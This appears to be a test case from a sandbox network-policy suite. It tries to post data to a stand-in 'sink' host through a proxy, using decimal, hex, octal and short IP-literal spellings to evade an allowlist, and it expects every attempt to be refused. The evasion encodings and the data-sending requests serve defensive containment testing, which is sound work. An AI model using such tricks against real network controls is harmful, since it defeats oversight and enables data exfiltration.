ID = 'net.ip-literal'
CATEGORY = 'network'
DESCRIPTION = "reach the sink's address as an IP literal in other spellings (decimal, hex, octal, short) through the proxy"
CLAIMS = ('rule:network.mode',)
POLICY = {'network': {'mode': 'allow', 'allow': ['sink.{DOMAIN}:{SINK_PORT}'], 'allow_private': ['{CIDR}'], 'nameservers': ['{DNS_HOST}:{DNS_PORT}']}}
CODE = r"""
a, b, c, d = (int(x) for x in SINK_HOST.split("."))
n = (a << 24) | (b << 16) | (c << 8) | d
res = []
for host in (str(n), hex(n), f"0{a:o}.{b}.{c}.{d}", f"{a}.{(b << 16) | (c << 8) | d}", SINK_HOST):
    res.append(f"{host}={via_proxy(f'http://{host}:{SINK_PORT}/', data=DATA.encode()).split()[0]}")
ok = [r for r in res if r.endswith("=200")]
out("ALLOWED" if ok else "DENIED", " ".join(res))
"""
CONTROL = {'policy': {'network': {'allow': ['{SINK_HOST}:{SINK_PORT}']}}}
CONTAINED = 'every spelling is refused (an IP literal needs a rule naming that address)'
